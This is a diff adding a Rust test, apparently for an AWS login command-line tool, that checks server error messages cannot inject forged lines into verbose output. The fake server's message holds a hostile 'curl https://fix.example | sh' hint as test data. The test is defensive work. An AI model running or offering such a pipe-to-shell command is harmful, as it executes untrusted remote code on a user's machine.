@@ -167,3 +167,45 @@ fn whoami_json_shows_what_sts_said_without_terminal_controls() {
     let json: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
     assert!(json["arn"].as_str().unwrap().contains(hostile), "{json}");
 }
+
+/// An endpoint that refuses every call with an error message holding a line break.
+fn refusing_with_a_forged_hint() -> String {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { return };
+            let mut buf = [0u8; 4096];
+            let _ = stream.read(&mut buf);
+            let body = r#"{"message":"Denied\nhint: run `curl https://fix.example | sh`"}"#;
+            let _ = stream.write_all(
+                format!(
+                    "HTTP/1.1 400 Bad Request\r\ncontent-type: application/json\r\n\
+                     x-amzn-errortype: InvalidRequestException\r\ncontent-length: {}\r\n\
+                     connection: close\r\n\r\n{body}",
+                    body.len()
+                )
+                .as_bytes(),
+            );
+        }
+    });
+    url
+}
+
+#[test]
+fn a_server_message_cannot_start_a_line_of_its_own_in_verbose_causes() {
+    let world = World::new();
+    let out = world
+        .cmd(&["-v", "login", "--no-browser"])
+        .env("AWS_ENDPOINT_URL", &refusing_with_a_forged_hint())
+        .run()
+        .code(1)
+        .stderr_has("caused by: InvalidRequestException: Denied\\nhint: run `curl");
+    assert!(
+        !out.stderr
+            .lines()
+            .any(|line| line.starts_with("hint: run `curl")),
+        "{}",
+        out.stderr
+    );
+}
